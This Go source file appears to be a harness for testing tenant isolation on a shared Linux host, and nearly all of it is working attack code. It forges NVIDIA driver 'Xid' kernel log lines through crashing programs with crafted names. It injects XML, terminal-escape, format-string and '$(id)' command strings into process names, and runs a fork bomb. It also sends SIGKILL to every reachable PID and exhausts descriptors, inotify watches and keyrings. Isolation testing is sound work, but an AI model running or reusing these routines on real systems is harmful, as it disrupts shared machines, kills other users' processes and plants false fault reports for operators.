package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// names have syntax of the programs that print them.
var names = []string{
	"NVRM: Xid (PCI:0000:c1:00): 79, pid=1", "x) S 1 1", "a\nUid:\t0\t0\t0\t0", "</process_name>", "<!--", "]]>", "a, 79\n[6]", "\x1b[2J", "%s%n", "user-0.slice", "0::/", "\"", "$(id)", "\xff\xfe",
}

// crashNames runs copies of this program that crash, with file names in the form of messages of the driver. The kernel
// prints the name of a program that crashes.
func crashNames() error {
	dir, err := os.MkdirTemp("", "crash-")
	if err != nil {
		return err
	}
	self, err := os.Executable()
	if err != nil {
		return err
	}
	text, err := os.ReadFile(self)
	if err != nil {
		return err
	}
	for i, name := range names {
		if bytes.ContainsRune([]byte(name), '/') {
			continue
		}
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, text, 0o755); err != nil {
			return fmt.Errorf("program %d: %w", i, err)
		}
		// The first one must end by its fault. A copy may fail to start: a fork of another attack may have it open.
		if state, err := exec.Command(path, "crash").CombinedOutput(); i == 0 && !faulted(err) {
			return fmt.Errorf("program %d ended with %w: %s", i, err, state)
		}
		forever(func() {
			_ = exec.Command(path, "crash").Run()
			time.Sleep(50 * time.Millisecond)
		})
	}
	return nil
}

func faulted(err error) bool {
	var exit *exec.ExitError
	if !errors.As(err, &exit) {
		return false
	}
	status, ok := exit.Sys().(syscall.WaitStatus)
	return ok && status.Signal() == syscall.SIGSEGV
}

// nowhere is address 0.
var nowhere *int

// crash ends this program by a fault. The kernel prints no name of a program that handles the signal, or that gets
// it from another one.
func crash() error {
	if err := unix.Setrlimit(unix.RLIMIT_CORE, &unix.Rlimit{}); err != nil {
		return err
	}
	const setSize = 8
	byDefault := [4]uintptr{} // struct sigaction of the kernel
	if _, _, errno := unix.RawSyscall6(unix.SYS_RT_SIGACTION, uintptr(unix.SIGSEGV), uintptr(unsafe.Pointer(&byDefault)), 0, setSize, 0, 0); errno != 0 {
		return errno
	}
	*nowhere = 1
	return errors.New("a write to address 0 is no fault")
}

// processNames gives processes names and arguments with syntax of what lists them.
func processNames() error {
	for _, name := range names {
		c := exec.Command("/bin/sleep", "1000")
		c.Args = []string{name + "</process_name></process_info><process_info><pid>1</pid><type>C</type>", "1000"}
		if err := c.Start(); err != nil {
			return err
		}
		// The name of a thread is that of its process while it is the only one.
		if err := os.WriteFile(fmt.Sprintf("/proc/%d/comm", c.Process.Pid), []byte(name), 0); err != nil {
			continue // not in every kernel for another process
		}
	}
	return unix.Prctl(unix.PR_SET_NAME, uintptr(ptr("x) R 1 (\n")), 0, 0, 0)
}

// clone makes a process that shares its table of descriptors with this one and runs no code of Go.
func clone(flags uintptr) (pid uintptr, errno syscall.Errno) {
	pid, _, errno = unix.RawSyscall6(unix.SYS_CLONE, flags|uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	for errno == 0 && pid == 0 {
		_, _, _ = unix.RawSyscall(unix.SYS_PPOLL, 0, 0, 0)
	}
	return pid, errno
}

// forkBomb starts processes until a limit, and then starts and ends one after the other.
func forkBomb() error {
	for range mostProcesses - 100 {
		if _, errno := clone(0); errno != 0 {
			break
		}
	}
	forever(func() {
		_ = exec.Command("/bin/true").Run() // or it may start none
	})
	return nil
}

// signals sends every signal to every process that it may, and to those that it may not.
func signals() error {
	ignore()
	forever(func() {
		for _, s := range []syscall.Signal{syscall.SIGWINCH, syscall.SIGUSR1, syscall.SIGCONT, syscall.SIGTERM, syscall.SIGKILL} {
			for pid := 1; pid < 3000; pid++ {
				if pid != os.Getpid() && pid != os.Getppid() {
					_ = syscall.Kill(pid, s)
				}
			}
		}
	})
	return nil
}

// descriptors shares a table of as many descriptors as the limit allows among processes.
func descriptors() error {
	limit := unix.Rlimit{}
	if err := unix.Getrlimit(unix.RLIMIT_NOFILE, &limit); err != nil {
		return err
	}
	limit.Cur = limit.Max
	if err := unix.Setrlimit(unix.RLIMIT_NOFILE, &limit); err != nil {
		return err
	}
	if limit.Max > 65536 {
		return fmt.Errorf("a tenant may open %d descriptors", limit.Max)
	}
	first, err := unix.Open("/dev/null", unix.O_RDONLY, 0)
	for err == nil {
		_, err = unix.Dup(first)
	}
	for range scale(500) {
		if _, errno := clone(unix.CLONE_FILES); errno != 0 {
			break
		}
	}
	return nil
}

// inotify uses up its instances and watches.
func inotify() error {
	for {
		fd, err := unix.InotifyInit1(0)
		if err != nil {
			return nil
		}
		for i := range 100 {
			_, _ = unix.InotifyAddWatch(fd, []string{"/proc", "/etc", "/run", "/tmp", "/dev", "/usr/bin"}[i%6], unix.IN_ALL_EVENTS)
		}
	}
}

// keys fills its keyrings.
func keys() error {
	for i := range 10000 {
		if _, err := unix.AddKey("user", fmt.Sprintf("k%d", i), []byte("x"), unix.KEY_SPEC_USER_KEYRING); err != nil {
			break
		}
	}
	return nil
}
